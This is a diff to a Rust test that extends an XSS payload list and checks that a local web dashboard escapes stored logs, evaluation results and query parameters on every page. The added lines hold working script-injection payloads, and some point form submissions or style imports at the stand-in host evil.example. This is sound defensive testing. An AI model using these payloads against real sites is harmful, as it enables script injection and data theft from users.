@@ -42,11 +42,39 @@ const PAYLOADS: &[&str] = &[
     "<ScRiPt>alert(1)</sCrIpT>",
     "&lt;script&gt;<i>tea</i>",
     "javascript:alert(1)<s>tea</s>",
+    "<img src=`x` onerror=alert(1)>",
+    "<img/src/onerror=alert(1)>",
+    "<img src=x onerror=\u{2028}alert(1)>",
+    "<<script>alert(1)//<</script>",
+    "<script/src=data:,alert(1)></script>",
+    "<script>alert`1`</script",
+    "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
+    "<svg><script>alert&#40;1&#41;</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><a xlink:href=javascript:alert(1)><text>tea</text></a></svg>",
+    "<marquee onstart=alert(1)>",
+    "<select autofocus onfocus=alert(1)>",
+    "<textarea autofocus onfocus=alert(1)>",
+    "<keygen autofocus onfocus=alert(1)>",
+    "<audio src=x onerror=alert(1)>",
+    "<embed src=javascript:alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<button form=bulk formaction=//evil.example name=verdict value=accept>tea</button>",
+    "<div style=position:fixed;inset:0;background:url(//evil.example)>",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<xmp><img src=x onerror=alert(1)></xmp>",
+    "<x contenteditable onblur=alert(1)>tea",
+    "\" formaction=javascript:alert(1) type=submit x=\"",
+    "\u{202e}<b>tea</b>\u{202c}",
+    "%3Cscript%3Ealert(1)%3C/script%3E<em>tea</em>",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-<q>tea</q>",
+    "*/</style><script>alert(1)</script>/*",
 ];
 
 #[test]
 fn no_page_shows_a_payload_unescaped() {
-    assert!(PAYLOADS.len() >= 30);
+    assert!(PAYLOADS.len() >= 60);
     let desk = Desk::new();
     let lines: Vec<String> = PAYLOADS
         .iter()
@@ -71,12 +99,18 @@ fn no_page_shows_a_payload_unescaped() {
     // Logs contain the same payloads in pending memories, in names of files, in errors and in the name of the log
     // itself.
     for (number, payload) in PAYLOADS.iter().enumerate() {
-        let name = if payload.contains('/') { "log" } else { payload };
+        let name = if payload.contains(['/', '\0']) { "log" } else { payload };
         desk.write(&format!("logs/{number} {name}.jsonl"), log(number, payload));
     }
     let told = desk.run(&["run", "logs", "--extractor", "rules", "-q"]);
     assert_eq!(told.code, 0, "{told:?}");
-    let browser = Browser::open(&desk, "en");
+    for (number, payload) in PAYLOADS.iter().enumerate() {
+        let name = if payload.contains(['/', '\0']) { "result" } else { payload };
+        desk.write(&format!("results/{number} {name}.json"), results(payload));
+    }
+    let browser = Browser::start_with(&desk, "en", &["--evals", "results"]);
+    browser.enter();
+    assert!(browser.page("/evals").matches("<a href=\"/evals?a=").count() > PAYLOADS.len() / 2);
     assert!(browser.page("/inbox").contains("approve every pull request"));
     let projects = browser.page("/projects");
     let project =
@@ -107,6 +141,10 @@ fn no_page_shows_a_payload_unescaped() {
         project,
     ];
     paths.extend(pages.map(|page| format!("/{page}")));
+    let listed = browser.page("/evals");
+    let results = listed.split("href=\"").filter(|link| link.starts_with("/evals?a="));
+    paths.extend(results.map(|link| link.split('"').next().unwrap().to_owned()));
+    paths.push("/evals".to_owned());
     for payload in PAYLOADS {
         let encoded = payload.bytes().map(|byte| format!("%{byte:02X}")).collect::<Vec<_>>().concat();
         paths.push(format!("/?q={encoded}&tag={encoded}&namespace={encoded}&category={encoded}&kind={encoded}"));
@@ -117,6 +155,9 @@ fn no_page_shows_a_payload_unescaped() {
         paths.push(format!("/graph?namespace={encoded}&memory={encoded}"));
         paths.push(format!("/analytics?namespace={encoded}"));
         paths.push(format!("/erase?session={encoded}"));
+        paths.push(format!("/erase?memory={encoded}"));
+        paths.push(format!("/evals?a={encoded}&b={encoded}"));
+        paths.push(format!("/?speaker={encoded}&from={encoded}&to={encoded}"));
         paths.push(format!("/runs/{encoded}"));
         paths.push(format!("/{encoded}"));
         paths.push(format!("/?done={encoded}&run={encoded}"));
@@ -135,6 +176,25 @@ fn no_page_shows_a_payload_unescaped() {
         assert!(!has_handler(&body), "{path}: {body}");
     }
     assert!(seen > PAYLOADS.len(), "{seen} pages showed what was stored");
+}
+
+/// Returns a result file of an evaluation in which everything says the payload.
+fn results(payload: &str) -> String {
+    let finding = json!({"what": payload, "id": payload, "text": payload, "why": payload, "counts": true,
+        "evidence": [{"quote": payload}]});
+    json!({
+        "form": "afterthought-eval-results", "version": 1,
+        "manifest": {"program": payload, "revision": payload, "suites": [{"name": payload, "path": payload, "content": "0", "cases": 1}],
+            "prompts": payload, "prompt_folder": null, "extractor": payload, "label": payload, "model": payload,
+            "deterministic": true, "seed": 1, "repeat": 1, "options": {payload: payload},
+            "started": "2026-03-02T09:00:00Z", "ms": 1, "cache_hits": 0},
+        "measures": [{"kind": payload, "name": payload, "about": payload, "better": "higher", "unit": "share", "harmonic_of": null}],
+        "rows": [{"suite": payload, "kind": payload, "case": payload, "split": payload, "phenomena": [payload], "repeat": 1,
+            "measures": {payload: {"numerator": 1, "denominator": 2}}, "cost": {"calls": 0, "failed_calls": 0,
+            "prompt_tokens": 0, "completion_tokens": 0, "money": null, "ms": 1}, "about": payload, "findings": [finding],
+            "confusion": [{"of": payload, "expected": payload, "got": payload, "count": 1}]}],
+    })
+    .to_string()
 }
 
 /// Returns the log of a session in which every text contains the payload.
